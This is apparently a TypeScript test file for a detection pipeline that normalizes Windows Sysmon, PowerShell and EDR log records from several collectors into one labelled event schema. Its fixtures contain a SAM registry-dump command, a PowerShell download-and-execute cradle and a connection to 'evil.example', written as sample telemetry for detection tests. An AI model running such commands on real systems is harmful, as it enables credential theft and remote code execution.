import type { JsonObject } from "@rolecall/core";
import { expect, test } from "vitest";
import { eventByIntake, readAlone } from "../test/event-by-intake.ts";

const TIME = "2026-11-24T10:00:00Z";
const SYSMON = "Microsoft-Windows-Sysmon";
const POWERSHELL = "Microsoft-Windows-PowerShell";
const COMPUTER = "web01.corp.acme.com";
const STARTED = {
  ...{ Image: "C:\\Windows\\System32\\reg.exe", CommandLine: "reg save HKLM\\SAM C:\\t\\sam" },
  ...{ User: "CORP\\svc-app", LogonId: "0x1a2b", ParentImage: "C:\\inetpub\\w3wp.exe" },
};
const data = (said: JsonObject): string =>
  Object.entries(said)
    .map(([name, value]) => `<Data Name='${name}'>${value}</Data>`)
    .join("");

function xml(provider: string, id: number, said: JsonObject, sid: string): string {
  const system = `<Provider Name='${provider}'/><EventID>${id}</EventID><Channel>${provider}/Operational</Channel>`;
  const where = `<Computer>${COMPUTER}</Computer><TimeCreated SystemTime='${TIME}'/><Security UserID='${sid}'/>`;
  return `<Event xmlns='x'><System>${system}${where}</System><EventData>${data(said)}</EventData></Event>`;
}

function elastic(provider: string, id: number, said: JsonObject, fields: JsonObject = {}): JsonObject {
  const winlog = {
    ...{ channel: `${provider}/Operational`, event_id: String(id), provider_name: provider },
    ...{ computer_name: COMPUTER, event_data: said, user: { identifier: "S-1-5-18" } },
  };
  const event = { code: String(id), kind: "event", provider, action: "x", category: ["process"] };
  return { "@timestamp": TIME, event, ecs: { version: "8" }, winlog, ...fields };
}

/** Of Microsoft's agent for Log Analytics: the event's data are XML in a text. */
function row(provider: string, id: number, said: JsonObject, user: string): JsonObject {
  return {
    ...{ TimeGenerated: TIME, Source: provider, EventLog: `${provider}/Operational`, Computer: COMPUTER, EventID: id },
    ...{ UserName: user, EventData: `<DataItem type="System.XmlData"><EventData>${data(said)}</EventData></DataItem>` },
  };
}

const lowered = Object.fromEntries(
  Object.entries(STARTED).map(([name, value]) => [name.charAt(0).toLowerCase() + name.slice(1), value]),
);
const HEADER = {
  EventTime: TIME,
  Hostname: COMPUTER,
  AccountName: "SYSTEM",
  Domain: "NT AUTHORITY",
  UserID: "S-1-5-18",
};

const FALCON = {
  ...{ event_simpleName: "ProcessRollup2", event_platform: "Win", aid: "a1", cid: "c1", id: "e1" },
  ...{ ComputerName: COMPUTER, UserSid: "S-1-5-21-1-2-3-1104", AuthenticationId: "6699", timestamp: "1795514400722" },
  ...{ ImageFileName: "\\Device\\HarddiskVolume2\\Windows\\System32\\reg.exe", CommandLine: STARTED.CommandLine },
  ...{ ParentBaseFileName: "w3wp.exe", ContextTimeStamp: "1795514400.006" },
};

test.each<[string, JsonObject]>([
  ["Winlogbeat", elastic(SYSMON, 1, STARTED)],
  [
    "Elastic's agent, whose pipelines moved what it says",
    elastic(...([SYSMON, 1, { LogonId: "0x1a2b" }] as const), {
      process: {
        executable: STARTED.Image,
        command_line: STARTED.CommandLine,
        parent: { executable: STARTED.ParentImage },
      },
      user: { name: "svc-app", domain: "CORP" },
    }),
  ],
  ["NXLog", { ...HEADER, ...STARTED, EventID: 1, SourceName: SYSMON, Channel: `${SYSMON}/Operational` }],
  ["Log Analytics", row(SYSMON, 1, STARTED, "NT AUTHORITY\\SYSTEM")],
  ["forwarded events", { timestamp: TIME, message: xml(SYSMON, 1, STARTED, "S-1-5-18") }],
  [
    "Wazuh",
    {
      win: { system: { providerName: SYSMON, eventID: "1", computer: COMPUTER, systemTime: TIME }, eventdata: lowered },
    },
  ],
  [
    "OpenTelemetry's collector",
    {
      ...{ channel: `${SYSMON}/Operational`, computer: COMPUTER, event_id: { id: 1 }, provider: { name: SYSMON } },
      ...{
        system_time: TIME,
        event_data: { data: Object.entries(STARTED).map(([name, value]) => ({ [name]: value })) },
      },
    },
  ],
  ["Falcon's sensor, with the name looked up", { ...FALCON, UserName: "CORP\\svc-app" }],
])("a program that a sensor saw start is the Security log's event of it: %s", (_, record) => {
  expect(eventByIntake(record)).toMatchObject({
    ...{ source: "windows-security", action: "4688 process-created", action_class: "execute", resource: "reg.exe" },
    ...{ identity_uid: "windows:corp:service-account:svc-app", session_uid: "0x1a2b" },
    labels: { program: "reg.exe", parent: "w3wp.exe", does: "credentials-dumped", host: "web01" },
  });
});

test("of Falcon's events the one of a program counts, by a SID where no name stands beside it", () => {
  const told = { identity_uid: "windows::unknown:S-1-5-21-1-2-3-1104", time: "2026-11-24T10:00:00.006Z" };
  expect(eventByIntake(FALCON)).toMatchObject(told);
  expect(eventByIntake({ event: FALCON, fdr_event_type: "ProcessRollup2", timestamp: TIME })).toMatchObject(told);
  expect(eventByIntake({ ...FALCON, UserSid: "S-1-5-18" }).identity_uid).toBe("windows:corp:workload:web01$");
  for (const differences of [{ event_simpleName: "DnsRequest" }, { aid: null }])
    expect(readAlone({ ...FALCON, ...differences })).toMatchObject({ kind: "dead-letter" });
});

test.each([
  ["the system, in French", "AUTORITE NT\\Système", "0x3e7", "windows:corp:workload:web01$"],
  ["a user of the machine's own", "WEB01\\backup", "0x5", "windows:web01:service-account:backup"],
  ["a person", "CORP\\ann", "0x5", "windows:corp:human:ann"],
])("whose program it is: %s", (_, User, LogonId, uid) => {
  expect(eventByIntake(elastic(SYSMON, 1, { ...STARTED, User, LogonId })).identity_uid).toBe(uid);
});

test.each([
  ["evil.example", "evil.example"],
  ["-", "2001:db8::7"],
])("a connection is of the program, and where to is a label: %s", (DestinationHostname, destination) => {
  const said = { Image: "C:\\x\\App.exe", User: "CORP\\svc-app", DestinationIp: "2001:db8::7", DestinationHostname };
  expect(eventByIntake(elastic(SYSMON, 3, said))).toMatchObject({
    ...{ action: "3 network-connected", resource: "app.exe", identity_uid: "windows:corp:service-account:svc-app" },
    labels: { destination },
  });
});

const SCRIPT = { ScriptBlockText: "IEX (New-Object Net.WebClient).DownloadString('http://x/a')", Path: "C:\\s\\A.ps1" };
const SID = "S-1-5-21-1-2-3-1105";

test.each<[string, JsonObject, string]>([
  [
    "NXLog",
    {
      ...HEADER,
      ...SCRIPT,
      EventID: 4104,
      SourceName: POWERSHELL,
      AccountName: "svc-app",
      Domain: "CORP",
      UserID: SID,
    },
    "windows:corp:service-account:svc-app",
  ],
  ["Log Analytics", row(POWERSHELL, 4104, SCRIPT, "CORP\\svc-app"), "windows:corp:service-account:svc-app"],
  [
    "forwarded events, which have the SID alone",
    { timestamp: TIME, message: xml(POWERSHELL, 4104, SCRIPT, SID) },
    `windows::unknown:${SID}`,
  ],
])("a script that PowerShell ran, from %s", (_, record, uid) => {
  expect(eventByIntake(record)).toMatchObject({
    ...{ action: "4104 script-run", resource: "a.ps1", identity_uid: uid },
    labels: { does: "download-and-run" },
  });
});

test("of a script that was run the secrets stay behind", () => {
  const ScriptBlockText = "$password = 'hunter2'; Connect-Db -Password hunter2";
  const event = eventByIntake(row(POWERSHELL, 4104, { ScriptBlockText }, "CORP\\svc-app"));
  expect(JSON.stringify(event)).not.toContain("hunter2");
});

test("what else Sysmon and PowerShell write is read as before", () => {
  expect(eventByIntake(elastic(SYSMON, 11, { Image: "C:\\x.exe", User: "CORP\\svc-app" })).source).toBe("ecs");
  expect(readAlone(row(POWERSHELL, 4103, {}, "CORP\\svc-app")).kind).toBe("dead-letter");
});
